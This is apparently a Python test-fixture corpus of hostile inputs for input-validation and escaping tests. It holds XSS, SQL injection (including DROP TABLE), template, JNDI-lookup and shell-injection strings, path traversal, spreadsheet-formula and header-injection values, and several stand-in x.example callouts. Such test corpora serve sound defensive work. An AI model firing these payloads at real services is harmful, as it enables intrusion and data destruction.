"""Texts that break services: each of them as somebody could type, paste or send it."""

# In every text: tells where it ends up.
MARK = "hx7q"

MARKUP = [
    *(f"<script>{MARK}</script>", f"<ScRiPt src=//x.example/{MARK}></ScRiPt>", f"<img src=x onerror={MARK}()>"),
    *(f'"><script>{MARK}()</script>', f"'><script>{MARK}()</script>", f"</title><script>{MARK}</script>"),
    *(f"</textarea><script>{MARK}()</script>", f"</option></select><script>{MARK}()</script>"),
    *(f'" onfocus="{MARK}()" autofocus="', f"' onmouseover='{MARK}()", f"` onload=`{MARK}()`", f"{MARK}' autofocus"),
    *(f"<svg onload={MARK}()>", f"<svg><script>{MARK}</script></svg>", f"<iframe srcdoc='<b>{MARK}'>"),
    *(f"<a href='javascript:{MARK}()'>a</a>", f"javascript:{MARK}()", f"JaVaScRiPt&colon;{MARK}()"),
    *(f"data:text/html,<b>{MARK}", f"<style>*{{background:url(//x.example/{MARK})}}</style>", f"<link rel=x {MARK}>"),
    *(f"<!--{MARK}", f"-->{MARK}<b>", f"<![CDATA[{MARK}]]>", f"<?xml {MARK}?>", f"<!DOCTYPE x [<!ENTITY {MARK} 'x'>]>"),
    *(f"&lt;b&gt;{MARK}", f"&#60;b&#62;{MARK}", f"&{MARK};", f"&amp;{MARK}", f"<b>{MARK}</b>", f"<{MARK}", f"{MARK}>"),
    *(
        f"<form action=//x.example><input name={MARK}>",
        f"<base href=//x.example/{MARK}>",
        f"<meta http-equiv=x {MARK}>",
    ),
    *(f"<math><mi xlink:href='javascript:{MARK}'>", f"<details open ontoggle={MARK}()>", f"<x/onclick={MARK}()>x"),
    *(f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e", f"\u2039script\u203a{MARK}", f"%3Cscript%3E{MARK}%3C/script%3E"),
]
QUERIES = [
    *(
        f"' OR '1'='1' -- {MARK}",
        f"{MARK}'; DROP TABLE engagement_delegation; --",
        f'" OR ""="{MARK}',
        f"{MARK}\\' OR 1=1",
    ),
    *(f"1; SELECT pg_sleep(5) --{MARK}", f"{MARK}') UNION SELECT NULL,NULL --", f"$${MARK}$$", f"{MARK}::regclass"),
    *(f"E'\\x27{MARK}'", f"{MARK}%' ESCAPE '\\", f"%{MARK}%", f"_{MARK}_", f"{MARK}\\", f"\\{MARK}", f"{MARK}:*&!|<->"),
    *(
        f"({MARK}",
        f"{MARK})",
        f"!{MARK}",
        f"{MARK} & | !",
        f"{MARK}:A",
        f"'{MARK}",
        f'"{MARK}',
        f"{MARK}''",
        f"--{MARK}",
    ),
]
PATTERNS = [
    *(f"%s{MARK}", f"%(name)s{MARK}", f"%n%n{MARK}", f"%d{MARK}%", f"{{0}}{MARK}", f"{{}}{MARK}", f"{{{MARK}}}"),
    *(f"{{{{7*7}}}}{MARK}", f"{{% now 'Y' %}}{MARK}", f"{{{{ request }}}}{MARK}", f"{{# {MARK} #}}", f"${{7*7}}{MARK}"),
    *(f"#{{7*7}}{MARK}", f"<%= 7*7 %>{MARK}", f"${{jndi:ldap://x.example/{MARK}}}", f"$(id){MARK}", f"`id`{MARK}"),
    *(f"; id {MARK}", f"| id {MARK}", f"&& id {MARK}", f"../../../etc/passwd{MARK}", f"..\\..\\{MARK}", f"C:\\{MARK}"),
    *(
        f"file:///etc/{MARK}",
        f"//x.example/{MARK}",
        f"http://127.0.0.1/{MARK}",
        f"mailto:{MARK}@x.example?bcc=a@x.example",
    ),
    *(f"=1+1|{MARK}", f"+1{MARK}", f"-1{MARK}", f"@SUM({MARK})", f'=HYPERLINK("//x.example/{MARK}")', f"\t={MARK}"),
    *(f"{MARK}\r\nBcc: a@x.example", f"{MARK}\nSet-Cookie: a=b", f"{MARK}%0d%0aX: y", f"*)({MARK}=*", f"[]{MARK}"),
    *(f'{{"a": "{MARK}"}}', f"__proto__{MARK}", f"constructor[{MARK}]", f"null{MARK}", f"NaN{MARK}", f"true{MARK}"),
    *(f"-0{MARK}", f"1e400{MARK}", f"0x7f{MARK}", f"99999999999999999999{MARK}", f"１２３{MARK}", f"٤٢{MARK}"),
]
CONTROLS = [f"a{chr(code)}{MARK}" for code in (*range(0x20), *range(0x7F, 0xA0))]
MARKS = [
    *(f"a{letter}{MARK}" for letter in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    *(
        f"a{letter}{MARK}"
        for letter in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2028\u2029\ufffc\ufffd\ufffe"
    ),
    *(
        f"a{letter}{MARK}"
        for letter in "\U000e0001\U000e0041\ufff9\ufffb\ue000\U0010ffff\ufdd0\u2800\u3164\u00a0\u3000"
    ),
]
SCRIPTS = [
    *(
        f"张测试{MARK}",
        f"張測試{MARK}",
        f"𠮷野家{MARK}",
        f"〇々㐀{MARK}",
        f"ㄅㄆㄇ{MARK}",
        f"テスト{MARK}",
        f"ｶﾞ{MARK}",
        f"시험{MARK}",
    ),
    *(f"ལྷ་ས{MARK}", f"ئۈرۈمچى{MARK}", f"ᠮᠣᠩᠭᠣᠯ{MARK}", f"שלום{MARK}", f"مرحبا{MARK}", f"ไทย{MARK}", f"हिन्दी{MARK}"),
    *(
        f"Hángzhōu{MARK}",
        f"Lǚ Měi{MARK}",
        f"Ŵyr â ŷ{MARK}",
        f"ﬁ ﬀ Ǆ{MARK}",
        f"İıſßẞ{MARK}",
        f"Å Å Å{MARK}",
        f"①㊀㍿{MARK}",
    ),
    *(
        f"😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿{MARK}",
        f"👍🏽❤️{MARK}",
        f"🇬🇧🇨🇳🇹🇼{MARK}",
        f"Z͑ͫ̓a̴̡l̸g̷o̶{MARK}",
        f"a{'\u0301' * 60}{MARK}",
        f"\u0301{MARK}",
    ),
    *(f"{'\ufdfa' * 10}{MARK}", f"𝓢𝓔𝓒𝓡𝓔𝓣 {MARK}", f"аdmіn{MARK}", f"ѕсrірt{MARK}", f"᠎{MARK}", f"{MARK}…—–“”‘’«»"),
]
SIZES = [
    *(MARK, f" {MARK} ", f"{MARK}{'x' * 120}", f"{MARK}{'x' * 147}", f"{MARK}{'é' * 200}", f"{MARK}{'杭' * 3_000}"),
    *(
        f"{MARK}{' ' * 5_000}x",
        f"{MARK}{'\n' * 3_000}x",
        f"{MARK}{'-' * 9_996}",
        f"{MARK}{'a.' * 20_000}",
        f"{MARK} {'S' * 40_000}",
    ),
]
MARKED = [
    f"SECRET\n{MARK}",
    f"TOP SECRET // {MARK}",
    f"{MARK} (SECRET)",
    f"S.E.C.R.E.T\n{MARK}",
    f"ＳＥＣＲＥＴ\n{MARK}",
]

# Whatever the code holds to be clean: none of these is ever taken. Of control characters, line breaks and tabs are.
REFUSED = [
    *(text for text in CONTROLS if text[1] not in "\t\n\r\x0b\x0c\x85"),
    *(f"a{letter}{MARK}" for letter in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    *MARKED,
]
CORPUS = [*MARKUP, *QUERIES, *PATTERNS, *CONTROLS, *MARKS, *SCRIPTS, *SIZES, *MARKED]
# What every field meets in every run.
ALWAYS = [
    MARKUP[0],
    MARKUP[3],
    MARKUP[8],
    QUERIES[0],
    PATTERNS[0],
    PATTERNS[7],
    CONTROLS[0],
    MARKS[7],
    SCRIPTS[0],
    SIZES[0],
]
HUGE = MARK + "x" * 1_000_000


def needs_escape(text: str) -> bool:
    return any(letter in text for letter in "<>&\"'")
